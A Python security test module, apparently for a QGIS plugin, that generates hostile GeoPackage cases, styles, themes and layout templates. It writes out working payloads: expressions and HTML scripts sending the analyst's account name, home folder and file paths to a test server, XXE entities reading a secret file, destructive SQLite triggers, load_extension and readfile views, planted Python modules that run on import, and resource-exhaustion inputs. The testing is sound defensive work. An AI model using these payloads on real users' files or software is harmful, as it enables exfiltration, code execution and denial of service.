"""Attacks by cases, themes, layout templates and the place in which QGIS is started."""

from __future__ import annotations

import json
import re
import sqlite3
from contextlib import closing
from html import escape
from pathlib import Path

from .attack import EVIL, OWN, Site, attack

RESOURCES = Path(__file__).resolve().parents[3] / "syria_control_plugin" / "resources"
CASE = "sent.gpkg"
OPENED = ("open",)
DRAWN = ("open", "print", "film")  # all that draws a case opens its layers in one place: a few attacks try each


def styled(site: Site, table: str, renderer: str = "", more: str = "") -> str:
    """The case with the stored style of a table changed: another renderer, further elements."""
    with closing(sqlite3.connect(site.at(CASE))) as database, database:
        rows = database.execute("SELECT id, styleQML FROM layer_styles WHERE f_table_name = ?", (table,)).fetchall()
        for number, style in rows:
            if renderer:
                start, end = style.index("<renderer-v2"), style.index("</renderer-v2>") + len("</renderer-v2>")
                style = style[:start] + renderer + style[end:]
            if more.startswith("<labeling"):
                style = re.sub(r"<labeling.*?</labeling>", "", style, flags=re.DOTALL)
                style = re.sub(r'labelsEnabled="0"', 'labelsEnabled="1"', style)
            style = style.replace("</qgis>", f"{more}</qgis>")
            database.execute("UPDATE layer_styles SET styleQML = ? WHERE id = ?", (style, number))
        if not rows:
            raise ValueError(f"The case has no style of {table}.")
    return CASE


def option(name: str, value: str) -> str:
    return f'<Option name="{name}" value="{escape(value)}" type="QString"/>'


def defined(name: str, expression: str) -> str:
    """A data-defined property, in the place where QGIS keeps those of a symbol's layer."""
    inside = f'<Option name="active" value="true" type="bool"/>{option("expression", expression)}<Option name="type" value="3" type="int"/>'
    return (
        '<data_defined_properties><Option type="Map"><Option name="name" value="" type="QString"/><Option name="properties" type="Map">'
        f'<Option name="{name}" type="Map">{inside}</Option></Option><Option name="type" value="collection" type="QString"/></Option>'
        "</data_defined_properties>"
    )


def symbol(kind: str, layer: str, options: str, more: str = "") -> str:
    """A renderer of one symbol with one layer."""
    return (
        '<renderer-v2 type="singleSymbol" symbollevels="0" enableorderby="0" forceraster="0"><symbols>'
        f'<symbol type="{kind}" name="0" alpha="1" clip_to_extent="1" force_rhr="0"><layer class="{layer}" enabled="1" pass="0" '
        f'locked="0"><Option type="Map">{options}</Option>{more}</layer></symbol></symbols></renderer-v2>'
    )


def report(site: Site) -> str:
    """An expression that gives the address of a server with what it wants to know of the analyst."""
    known = "@user_account_name, env('HOME'), @project_path, layer_property(@layer, 'source')"
    return f"concat('{site.url()}?u=', {known})"


@attack("styles", "style-svg-fill", "a stored style that fills areas with a picture on a server", *DRAWN)
def _(site):
    return styled(
        site, "control_map", symbol("fill", "SVGFill", option("svgFile", site.url("f.svg")) + option("width", "5"))
    )


@attack("styles", "style-raster-fill", "the same with a raster", "open", "print")
def _(site):
    return styled(
        site,
        "control_map",
        symbol("fill", "RasterFill", option("imageFile", site.url("f.png")) + option("width", "50")),
    )


@attack("styles", "style-svg-marker", "markers of events from a server", *DRAWN)
def _(site):
    return styled(
        site, "events", symbol("marker", "SvgMarker", option("name", site.url("m.svg")) + option("size", "5"))
    )


@attack("styles", "style-raster-marker", "raster markers of events from a server", "open")
def _(site):
    return styled(
        site, "events", symbol("marker", "RasterMarker", option("imageFile", site.url("m.png")) + option("size", "9"))
    )


@attack("styles", "style-data-defined", "a data-defined path that reports account, home folder and file", *DRAWN)
def _(site):
    own = option("svgFile", "x.svg") + option("width", "5")
    return styled(site, "control_map", symbol("fill", "SVGFill", own, defined("file", report(site))))


@attack("styles", "style-data-defined-marker", "the same of a marker", "open")
def _(site):
    own = option("name", "x.svg") + option("size", "5")
    return styled(site, "events", symbol("marker", "SvgMarker", own, defined("name", report(site))))


@attack("styles", "style-geometry-generator", "an expression in a style that opens other layers", *OPENED)
def _(site):
    expression = f"with_variable('l', load_layer('/vsicurl/{site.url('l.geojson')}', 'ogr'), aggregate(@l, 'collect', $geometry))"
    options = option("geometryModifier", expression) + option("SymbolType", "Fill") + option("units", "MapUnit")
    return styled(site, "control_map", symbol("fill", "GeometryGenerator", options))


@attack("styles", "style-reads-table", "an expression in a style that shows a table of the analyst", "open")
def _(site):
    expression = f"aggregate(load_layer('{site.secret}', 'ogr'), 'concatenate', \"note\")"
    return styled(site, "control_map", more=labels(expression))


def labels(expression: str, more: str = "") -> str:
    text = (
        f'<text-style fieldName="{escape(expression)}" isExpression="1" allowHtml="1" fontSize="10" fontSizeUnit="Point" '
        'fontFamily="DejaVu Sans" textColor="0,0,0,255" textOpacity="1">'
    )
    return (
        f'<labeling type="simple"><settings calloutType="simple">{text}{more}</text-style><placement placement="1" '
        'obstacleType="1"/><rendering scaleVisibility="0" drawLabels="1" displayAll="1" obstacle="0"/></settings></labeling>'
    )


@attack("styles", "style-html-labels", "labels with HTML that loads pictures and tables", *DRAWN)
def _(site):
    picture = f'\'<img src="{site.url("l.png")}"><link rel=stylesheet href="{site.url("l.css")}">\' || {report(site)}'
    return styled(site, "control_map", more=labels(picture))


@attack("styles", "style-label-background", "a background of labels from a server", *OPENED)
def _(site):
    background = (
        f'<background shapeDraw="1" shapeType="5" shapeSVGFile="{site.url("b.svg")}" shapeSizeX="5" shapeSizeY="5"/>'
    )
    return styled(site, "control_map", more=labels("'x'", background))


@attack(
    "styles",
    "style-actions",
    "actions, form code, map tips, joins, virtual fields and notes in a style",
    "open",
    absent="(actions|form code|map tip|notes|joins|virtual fields): ",
)
def _(site):
    ran = escape(f"open({str(site.home / 'ran')!r}, 'w')")
    evil = (
        f'<attributeactions><actionsetting name="x" type="1" action="{ran}" isEnabledOnlyWhenEditable="0"><actionScope id="Layer"/>'
        f"</actionsetting></attributeactions><editforminit>f</editforminit><editforminitcodesource>2</editforminitcodesource>"
        f"<editforminitcode><![CDATA[def f(d, l, x):\n    open({str(site.home / 'ran')!r}, 'w')]]></editforminitcode>"
        f'<mapTip enabled="1">&lt;img src="{site.url("t.png")}"&gt;</mapTip><layerNotes>&lt;img src="{site.url("n.png")}"&gt;'
        f'</layerNotes><expressionfields><field name="v" expression="{escape(report(site))}" type="10"/></expressionfields>'
        f'<vectorjoins><join joinLayerId="x" targetFieldName="fid" joinFieldName="fid"/></vectorjoins>'
        f'<legend type="default-vector"/><customproperties><Option type="Map">{option("embeddedWidgets/0/id", site.url("w"))}'
        f"</Option></customproperties><previewExpression>{escape(report(site))}</previewExpression>"
    )
    return styled(site, "control_map", more=evil)


@attack("styles", "style-rule", "rules, order and sizes by expressions that read the environment", *OPENED)
def _(site):
    rule = escape(f"length(env('HOME')) > 0 and raise_exception({report(site)}) is null")
    renderer = (
        f'<renderer-v2 type="RuleRenderer" symbollevels="0"><rules key="r"><rule key="a" symbol="0" filter="{rule}"/></rules><symbols>'
        f'<symbol type="fill" name="0"><layer class="SVGFill" enabled="1"><Option type="Map">{option("svgFile", site.url("r.svg"))}'
        "</Option></layer></symbol></symbols></renderer-v2>"
    )
    return styled(site, "control_map", renderer)


@attack("styles", "style-sld", "a stored SLD with pictures on a server", "open")
def _(site):
    site.sql(
        CASE,
        f"UPDATE layer_styles SET styleQML = '', styleSLD = '<StyledLayerDescriptor><x href=\"{site.url('s')}\"/></StyledLayerDescriptor>'",
    )
    return CASE


@attack("styles", "style-second", "a second style that is called default for each table", *OPENED)
def _(site):
    style = f"<qgis>{symbol('fill', 'SVGFill', option('svgFile', site.url('f.svg')))}</qgis>".replace("'", "''")
    site.sql(
        CASE,
        "INSERT INTO layer_styles (f_table_catalog, f_table_schema, f_table_name, f_geometry_column, styleName, styleQML, styleSLD, "
        f"useAsDefault, update_time) SELECT '', '', f_table_name, f_geometry_column, 'zzz', '{style}', '', 1, '2099-01-01T00:00:00.000Z' "
        "FROM layer_styles WHERE f_table_name = 'control_map'",
    )
    return CASE


@attack(
    "cases",
    "triggers",
    "triggers on each table of a case that empty it and attach files",
    "add_to",
    "open",
    "corridors",
)
def _(site):
    tables = (
        "territories",
        "maps",
        "files",
        "case_settings",
        "factions",
        "layer_styles",
        "gpkg_contents",
        "derived_classes",
    )
    for table in tables:
        for moment in ("INSERT", "UPDATE", "DELETE"):
            site.sql(
                CASE,
                f"CREATE TRIGGER evil_{table}_{moment} AFTER {moment} ON {table} BEGIN DELETE FROM territories; END",
            )
    return CASE


@attack("cases", "trigger-rows", "a trigger that adds rows of a faction of its own at each import", "add_to")
def _(site):
    columns = "faction, valid_from, source, basis"
    site.sql(
        CASE,
        f"CREATE TRIGGER evil AFTER INSERT ON maps BEGIN INSERT INTO territories ({columns}) VALUES ('{EVIL}', '2017-01-01T00:00:00Z', 's', 'b'); END",
    )
    return CASE


@attack("cases", "view-drawn", "a view in the place of the map that is drawn, with functions of GDAL", *DRAWN, "add_to")
def _(site):
    site.sql(
        CASE, "DROP VIEW control_map",
        f"CREATE VIEW control_map AS SELECT fid, geom, ogr_geocode('x', 'geometry', 'QUERY_TEMPLATE={site.url('g')}?q=%s') AS class,"
        " valid_from, valid_to, shown_until, source, basis FROM territories",
    )  # fmt: skip
    return CASE


@attack("cases", "view-endless", "a view in the place of the map that never ends", "open", "corridors", seconds=6)
def _(site):
    rows = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n)"
    site.sql(CASE, "DROP VIEW control_map", f"CREATE VIEW control_map AS {rows} SELECT i AS fid, geom, faction AS class, valid_from, "
             "valid_to, shown_until, source, basis FROM n, territories")  # fmt: skip
    return CASE


@attack("cases", "table-as-view", "settings and factions that are views over functions", "open", "add_to")
def _(site):
    site.sql(
        CASE, "ALTER TABLE case_settings RENAME TO case_settings_kept",
        "CREATE VIEW case_settings AS SELECT key, CASE key WHEN 'title' THEN '\"' || hex(zeroblob(1000000)) || '\"' ELSE value END AS value FROM case_settings_kept",
    )  # fmt: skip
    return CASE


@attack("cases", "view-loads", "a view that loads an extension of SQLite and reads a file", "open", "add_to")
def _(site):
    calls = f"load_extension('{site.home / 'x.so'}') || readfile('{site.home / 'secret.txt'}')"
    site.sql(
        CASE,
        "ALTER TABLE factions RENAME TO factions_kept",
        f"CREATE VIEW factions AS SELECT id, {calls} AS name, aliases, bloc, colour FROM factions_kept",
    )
    return CASE


@attack("cases", "virtual-table", "a virtual table over a file of the analyst", *OPENED)
def _(site):
    site.sql(
        CASE, "PRAGMA writable_schema = ON",
        f"INSERT INTO sqlite_master VALUES ('table', 'places', 'places', 0, 'CREATE VIRTUAL TABLE places USING VirtualOGR(''{site.secret}'')')",
        "INSERT INTO gpkg_contents (table_name, identifier, data_type, srs_id) VALUES ('places', 'places', 'features', 4326)",
    )  # fmt: skip
    return CASE


@attack("cases", "texts", "title, note, sources and factions with expressions, HTML and scripts", *DRAWN, "corridors")
def _(site):
    evil = f"[% @user_account_name %] [% env('HOME') %] <img src='{site.url('i.png')}'> <script src='{site.url('j.js')}'></script>"
    for key in ("title", "note", "sources"):
        site.sql(
            CASE,
            f"DELETE FROM case_settings WHERE key = '{key}'",
            f"INSERT INTO case_settings (key, value) VALUES ('{key}', {quoted(json.dumps(evil))})",
        )
    site.sql(CASE, f"UPDATE factions SET name = {quoted(evil)}", f"UPDATE territories SET source = {quoted(evil)}")
    return CASE


def quoted(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


@attack("cases", "theme-labels", "a theme in the case whose labels and colours are expressions and paths", *OPENED)
def _(site):
    with closing(sqlite3.connect(site.at(CASE))) as database:
        theme = json.loads(database.execute("SELECT value FROM case_settings WHERE key = 'theme'").fetchone()[0])
    for entry in theme["classes"]:
        entry["label"] = f"[% @user_account_name %] [% env('HOME') %] <img src='{site.url()}'>"
    site.sql(CASE, f"UPDATE case_settings SET value = {quoted(json.dumps(theme))} WHERE key = 'theme'")
    return CASE


@attack("cases", "settings-deep", "settings that are JSON nested 100,000 deep", "open", "add_to")
def _(site):
    deep = "[" * 100_000 + "]" * 100_000
    site.sql(CASE, f"UPDATE case_settings SET value = '{deep}' WHERE key = 'theme'")
    return CASE


@attack("cases", "settings-large", "a title of 50 MB", "open")
def _(site):
    site.sql(CASE, "INSERT INTO case_settings (key, value) VALUES ('title', '\"' || hex(zeroblob(25000000)) || '\"')")
    return CASE


@attack(
    "cases", "pragma", "a case whose header asks for a journal elsewhere and an endless page count", "open", "add_to"
)
def _(site):
    content = bytearray(site.at(CASE).read_bytes())
    content[28:32] = (0x7FFFFFFF).to_bytes(4, "big")
    site.write(CASE, bytes(content))
    site.write(f"{CASE}-journal", b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + b"\xff" * 600)
    return CASE


@attack("cases", "project-in-case", "a project and macros stored in the case", "open")
def _(site):
    macro = f"def openProject():\n    open({str(site.home / 'ran')!r}, 'w')"
    site.sql(CASE, "CREATE TABLE qgis_projects (name TEXT PRIMARY KEY, metadata BLOB, content BLOB)",
             f"INSERT INTO qgis_projects VALUES ('x', '', {quoted(f'<qgis><Macros><pythonCode>{macro}</pythonCode></Macros></qgis>')})")  # fmt: skip
    return CASE


@attack("cases", "vrt-as-case", "a virtual source and a link in the place of a case", "open", "print", "add_to")
def _(site):
    site.at(CASE).unlink()
    return site.write(
        CASE,
        f"<OGRVRTDataSource><OGRVRTLayer name='x'><SrcDataSource>/vsicurl/{site.url()}</SrcDataSource></OGRVRTLayer></OGRVRTDataSource>",
    )


# Themes


@attack(
    "themes", "theme-paths", "a theme with paths, addresses and expressions for labels, patterns and colours", "theme"
)
def _(site):
    theme = json.loads((RESOURCES / "themes" / "conflict_convention.json").read_text(encoding="utf-8"))
    for entry in theme["classes"]:
        entry["label"] = f"[% env('HOME') %] <img src='{site.url()}'>"
        entry["fill"]["pattern"] = site.url("p.svg")
    return site.write("theme.json", json.dumps(theme))


@attack("themes", "theme-deep", "a theme nested 100,000 deep", "theme")
def _(site):
    return site.write("theme.json", '{"id": ' + "[" * 100_000 + "]" * 100_000 + "}")


@attack("themes", "theme-large", "a theme of 200 MB", "theme", megabytes=400)
def _(site):
    path = site.at("theme.json")
    with open(path, "w", encoding="utf-8") as file:
        file.write('{"id": "x", "name": "')
        for _ in range(200):
            file.write("x" * 1_000_000)
        file.write('", "classes": []}')
    return "theme.json"


@attack("themes", "theme-sparse", "a sparse theme of 4 GB", "theme", megabytes=400, seconds=8)
def _(site):
    import os

    os.truncate(site.write("theme.json", "{") and site.at("theme.json"), 4 << 30)
    return "theme.json"


@attack("themes", "theme-classes", "a theme of 20,000 classes", "theme", seconds=10)
def _(site):
    theme = json.loads((RESOURCES / "themes" / "conflict_convention.json").read_text(encoding="utf-8"))
    first = theme["classes"][0]
    theme["classes"] = [{**first, "id": f"c{number}", "faction": f"F{number}"} for number in range(20_000)]
    return site.write("theme.json", json.dumps(theme))


@attack("themes", "theme-fifo", "a pipe, a device and a folder in the place of a theme", "theme", seconds=6)
def _(site):
    import os

    os.mkfifo(site.at("theme.json"))
    return "theme.json"


@attack("themes", "theme-device", "a link to a device in the place of a theme", "theme", seconds=6)
def _(site):
    import os

    os.symlink("/dev/zero", site.at("theme.json"))
    return "theme.json"


@attack("themes", "theme-secret", "a link to a file of the analyst in the place of a theme", "theme")
def _(site):
    import os

    os.symlink(site.home / "secret.txt", site.at("theme.json"))
    return "theme.json"


@attack("themes", "theme-numbers", "a theme with infinite and immense numbers", "theme")
def _(site):
    text = (RESOURCES / "themes" / "print_hatch.json").read_text(encoding="utf-8")
    return site.write("theme.json", text.replace('"spacing_mm": ', '"spacing_mm": 1e-300, "line_mm": 1e300, "was": '))


# Templates


def template(site: Site, items: str, before: str = "", atlas: str = "") -> str:
    """The shipped template of a map with further items."""
    text = (RESOURCES / "layouts" / "map_a4_landscape.qpt").read_text(encoding="utf-8")
    text = before + text.replace("</PageCollection>", f"</PageCollection>{items}", 1)
    return site.write("own.qpt", text.replace("</Layout>", f"{atlas}</Layout>") if atlas else text)


def item(kind: int, attributes: str, inside: str = "") -> str:
    place = 'position="10,10,mm" positionOnPage="10,10,mm" size="40,40,mm" visibility="1" opacity="1" zValue="50" referencePoint="0"'
    return f'<LayoutItem type="{kind}" {place} {attributes}>{inside}<LayoutObject/></LayoutItem>'


LABEL, PICTURE, FRAME, HTML, MAP = 65641, 65640, 65647, 65648, 65639


def html_item(text: str = "", url: str = "") -> str:
    mode = 'contentMode="1"' if text else 'contentMode="0"'
    frame = item(
        FRAME,
        'uuid="{a}" templateUuid="{a}" multiFrame="{b}" multiFrameTemplateUuid="{b}" sectionWidth="40" sectionHeight="40"',
    )
    return frame + (
        f'<LayoutMultiFrame type="{HTML}" uuid="{{b}}" templateUuid="{{b}}" {mode} url="{escape(url)}" html="{escape(text)}" '
        'evaluateExpressions="true" resizeMode="0" maxBreakDistance="10"><childFrame uuid="{a}" templateUuid="{a}"/></LayoutMultiFrame>'
    )


@attack("templates", "html-script", "an HTML item with a script that fetches and reports", "template", seconds=30)
def _(site):
    code = f"var x = new XMLHttpRequest(); x.open('GET', '{site.url('js')}?[% @user_account_name %]', false); x.send();"
    return template(site, html_item(f"<img src='{site.url('i.png')}'><script>{code}</script>"))


@attack("templates", "html-url", "an HTML item that shows an address", "template", seconds=30)
def _(site):
    return template(site, html_item(url=site.url("page")))


@attack("templates", "html-file", "an HTML item that shows a file of the analyst", "template", seconds=30)
def _(site):
    return template(site, html_item(url=f"file://{site.home}/secret.txt"))


@attack("templates", "label-html", "a label in HTML mode with pictures, styles and expressions", "template")
def _(site):
    text = f"<img src='{site.url('l.png')}'><style>@import '{site.url('l.css')}';</style>[% @user_account_name %] [% env('HOME') %]"
    return template(site, item(LABEL, f'htmlState="1" labelText="{escape(text)}" halign="1" valign="32"'))


@attack(
    "templates", "label-expression", "a label with variables of the account, of the machine and of paths", "template"
)
def _(site):
    text = f"[% @user_account_name %] [% @user_full_name %] [% env('HOME') %] [% @project_path %] [% {report(site)} %]"
    return template(site, item(LABEL, f'htmlState="0" labelText="{escape(text)}" halign="1" valign="32"'))


@attack("templates", "label-loads", "a label whose expression opens layers elsewhere", "template")
def _(site):
    text = (
        f"[% aggregate(load_layer('{site.secret}', 'ogr'), 'concatenate', \"note\") %]"
        f"[% aggregate(load_layer('/vsicurl/{site.url('l.geojson')}', 'ogr'), 'count', 1) %]"
    )
    return template(site, item(LABEL, f'htmlState="0" labelText="{escape(text)}" halign="1" valign="32"'))


@attack("templates", "picture-url", "pictures, vector and raster, on a server", "template")
def _(site):
    return template(
        site,
        item(PICTURE, f'file="{site.url("p.svg")}" mode="0"') + item(PICTURE, f'file="{site.url("p.png")}" mode="1"'),
    )


@attack("templates", "picture-defined", "a picture whose path is an expression", "template")
def _(site):
    text = item(PICTURE, 'file="" mode="0"').replace(
        "<LayoutObject/>", f"<LayoutObject>{layout_property('dataDefinedPictureSource', report(site))}</LayoutObject>"
    )
    return template(site, text)


def layout_property(name: str, expression: str) -> str:
    return defined(name, expression).replace("data_defined_properties", "dataDefinedProperties")


@attack("templates", "picture-base64", "a picture within the template that asks a server", "template")
def _(site):
    import base64

    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image width="9" height="9" xlink:href="{site.url("b.png")}"/></svg>'
    return template(site, item(PICTURE, f'file="base64:{base64.b64encode(svg.encode()).decode()}" mode="0"'))


@attack("templates", "picture-outside", "a picture in the analyst's home folder", "template")
def _(site):
    (site.home / "private.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg"><text>CanarySecret7f3a</text></svg>', encoding="utf-8"
    )
    return template(site, item(PICTURE, f'file="{site.home}/private.svg" mode="0"'))


@attack("templates", "map-layers", "a map item with layers, styles and an overview of its own", "template")
def _(site):
    layers = (
        f'<LayerSet><Layer source="/vsicurl/{site.url("m.geojson")}" provider="ogr" name="x">x</Layer>'
        f'<Layer source="type=xyz&amp;url={site.url("t")}/{{z}}/{{x}}/{{y}}.png" provider="wms" name="y">y</Layer></LayerSet>'
    )
    return template(
        site,
        item(
            MAP,
            'keepLayerSet="true" followPreset="false"',
            f"<Extent xmin='36' ymin='35' xmax='37' ymax='36'/>{layers}",
        ),
    )


@attack("templates", "marker", "a marker, a shape and a page with pictures of a server", "template")
def _(site):
    fill = (
        symbol("fill", "SVGFill", option("svgFile", site.url("s.svg")))
        .partition("<symbols>")[2]
        .partition("</symbols>")[0]
    )
    return template(site, item(65643, 'shapeType="1" cornerRadiusMeasure="0,mm"', fill))


@attack("templates", "atlas", "an atlas whose file names and filter are expressions", "template")
def _(site):
    pattern = escape(f"'../../' || env('HOME') || '/{EVIL}'")
    return template(
        site,
        "",
        atlas=f'<Atlas enabled="1" filenamePattern="{pattern}" pageNameExpression="{pattern}" hideCoverage="0"/>',
    )


@attack("templates", "custom-properties", "an author, keywords and variables of the template itself", "template")
def _(site):
    more = f'<customproperties><Option type="Map">{option("variableNames", "x")}{option("variableValues", EVIL)}{option("georeference", "true")}</Option></customproperties>'
    return template(site, more)


@attack("templates", "entities", "a template with entities of files and of a server", "template")
def _(site):
    return template(
        site, "", f'<!DOCTYPE x [<!ENTITY a SYSTEM "file://{site.home}/secret.txt"><!ENTITY b SYSTEM "{site.url()}">]>'
    )


@attack("templates", "template-large", "a template of 300 MB", "template", megabytes=700)
def _(site):
    text = (RESOURCES / "layouts" / "map_a4_landscape.qpt").read_text(encoding="utf-8")
    with open(site.at("own.qpt"), "w", encoding="utf-8") as file:
        start, end = text.split("</PageCollection>", 1)
        file.write(f"{start}</PageCollection><!--")
        for _ in range(300):
            file.write("x" * 1_000_000)
        file.write(f"-->{end}")
    return "own.qpt"


@attack("templates", "template-fifo", "a pipe in the place of a template", "template", seconds=6)
def _(site):
    import os

    os.mkfifo(site.at("own.qpt"))
    return "own.qpt"


@attack("templates", "template-device", "a link to a device in the place of a template", "template", seconds=6)
def _(site):
    import os

    os.symlink("/dev/zero", site.at("own.qpt"))
    return "own.qpt"


# The place in which QGIS or Python is started


@attack("place", "cwd-modules", "modules in the folder in which QGIS is started", "qgis_process", seconds=40)
def _(site):
    for name in ("numpy", "pip", "shapely", "osgeo", "json", "sitecustomize", "processing"):
        (site.cwd / f"{name}.py").write_text(
            f"open({str(site.home / 'ran')!r}, 'w')\nraise ImportError\n", encoding="utf-8"
        )
    site.map()


@attack("place", "cwd-gdal", "data files of GDAL and PROJ in the folder in which QGIS is started", "folder", "preview")
def _(site):
    registry = f'<gml_registry><namespace prefix="x" uri="http://x"><featureType elementName="m" schemaLocation="{site.url("r.xsd")}"/></namespace></gml_registry>'
    for name, text in (("gml_registry.xml", registry), ("gdalrc", "[configoptions]\nCPL_DEBUG=ON\n"), ("proj.ini", f"[general]\nnetwork = on\ncdn_endpoint = {site.url('proj')}\n"),
                       ("ogrvrt.xsd", "x"), ("osmconf.ini", "x"), ("gfs.xsd", "x")):  # fmt: skip
        (site.cwd / name).write_text(text, encoding="utf-8")
    from .attack import gml

    return site.write(
        "2017-10-01.gml", gml('xmlns="http://x" xmlns:x="http://x"').replace("<m>", "<x:m>").replace("</m>", "</x:m>")
    )


@attack("place", "crs-grid", "a map in a reference system that asks PROJ for a grid on a server", "folder", "preview")
def _(site):
    name = f"+proj=longlat +datum=NAD27 +nadgrids={site.url('grid.gsb')} +type=crs"
    return site.map(crs={"type": "name", "properties": {"name": name}})


@attack(
    "place",
    "crs-grid-file",
    "a Shapefile in a reference system whose grid is a file of the analyst",
    "folder",
    "preview",
)
def _(site):
    from osgeo import gdal

    from .attack import geojson

    gdal.VectorTranslate(str(site.at("2017-10-01.shp")), geojson({"faction": OWN}), format="ESRI Shapefile")
    site.write(
        "2017-10-01.prj",
        f'GEOGCS["x",DATUM["y",SPHEROID["z",6378137,298],EXTENSION["PROJ4_GRIDS","{site.home}/secret.txt,{site.url("g.gsb")}"]],PRIMEM["G",0],UNIT["d",0.0174532925199433]]',
    )
    return "2017-10-01.shp"
